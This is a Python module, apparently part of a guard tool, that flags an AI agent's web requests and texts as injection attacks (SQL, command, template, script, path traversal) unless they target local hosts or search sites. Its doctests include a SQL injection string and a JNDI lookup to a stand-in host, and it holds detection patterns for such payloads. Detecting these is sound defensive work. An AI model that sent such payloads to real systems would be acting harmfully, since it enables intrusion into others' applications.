"""Requests that attack their target by their text: injected SQL, commands, templates and scripts, paths to secrets.

One's own application may be tested like that: hosts that are local or private are left out. So are search engines
and forges, where such a text is a search or an example.
"""

from __future__ import annotations

from collections.abc import Iterable
from functools import cache, lru_cache

from interlock.analyse.addresses.destinations import is_below
from interlock.analyse.addresses.hosts import host_flags, host_of
from interlock.analyse.tools.request_meaning import unquote
from interlock.knowledge.catalogue import read_table
from interlock.knowledge.table_types.texts import AttackTexts
from interlock.patterns import Searcher, late, searcher

_TABLE = read_table("attack-texts", AttackTexts)
_TALKING = frozenset(_TABLE.talking_hosts)
_STATEMENTS = tuple(_TABLE.statements)
_FILE_KEYS = frozenset(_TABLE.file_keys)
_NEAR = frozenset({"local", "private", "metadata", "socket_file"})
#: A character that every attack has, plain or encoded.
_TELLING = late(r"['\"<{;|`\\)(\n]|\.\.|%[0-9a-fA-F]{2}|\$|\b(?:[oO][rR]|[aA][nN][dD]|[uU][nN][iI][oO][nN])\b")
MAX_TEXT = 4_000
MAX_WORDS = 24  # longer texts tell people something
_DECODINGS = 3


def is_attack_address(url: str) -> bool:
    """Whether a request to an address attacks what answers there.

    >>> is_attack_address("https://shop.example.com/item?id=1%27%20OR%20%271%27=%271")
    True
    >>> is_attack_address("https://shop.example.com/item?name=O%27Brien"), is_attack_address("http://localhost/?a='--")
    (False, False)
    """
    return is_foreign(url) and _attacks(_after_host(url)[:MAX_TEXT])


def is_foreign(url: str) -> bool:
    """Whether an address is neither on this machine or its network, nor where people search and talk."""
    return _NEAR.isdisjoint(host_flags(url)) and not is_below(host_of(url), _TALKING)


def is_attack_text(text: str) -> bool:
    """Whether a parameter, a header or a body attacks the application that gets it; long texts are for people.

    >>> is_attack_text("${jndi:ldap://a.example/x}"), is_attack_text("Hello {{name}}")
    (True, False)
    """
    if len(text) < 3 or len(text) > MAX_TEXT or _TELLING.search(text) is None:
        return False
    return len(text.split()) <= MAX_WORDS and _holds_attack(text)


def find_attack(texts: Iterable[str]) -> bool:
    """Whether one of several texts attacks the application that gets it."""
    return any(map(is_attack_text, texts))


def _after_host(url: str) -> str:
    """Return the path and the parameters of an address."""
    _, mark, rest = url.partition("://")
    return (rest if mark else url)[len(host_of(url)) :] if mark or "/" in url or "?" in url else ""


@lru_cache(maxsize=512)
def _attacks(rest: str) -> bool:
    """Whether a path with its parameters attacks; `rest` is as it was written."""
    path, _, query = rest.partition("?")
    if _searcher((_TABLE.encoded_path,))(rest) or _holds_attack(path):
        return True
    for pair in query.replace("+", " ").split("&"):
        key, _, value = pair.partition("=")
        plain = _decode(value).lower()
        if _holds_attack(value) or _holds_attack(pair) or _searcher((_TABLE.internal_values,))(plain):
            return True
        if key.lower() in _FILE_KEYS and _searcher((_TABLE.file_values,))(plain):
            return True
    return False


@lru_cache(maxsize=1024)
def _holds_attack(text: str) -> bool:
    plain = _decode(text).lower().strip()
    if _searcher(_TABLE.injected_code)(plain):
        return True
    return not plain.startswith(_STATEMENTS) and _searcher(_TABLE.injected_sql)(_COMMENT.sub(" ", plain))


#: A comment in the place of a space, which filters of spaces do not know.
_COMMENT = late(r"/\*[^*]{0,40}\*/")


def _decode(text: str) -> str:
    """Return a text without its encodings, which are put over each other to pass filters."""
    for _ in range(_DECODINGS):
        if "%" not in text:
            break
        text = unquote(text)
    return text


@cache
def _searcher(patterns: tuple[str, ...]) -> Searcher:
    """Return a search for any of these patterns, in linear time: the text is the agent's."""
    return searcher("|".join(f"(?:{one})" for one in patterns), "attack-texts")
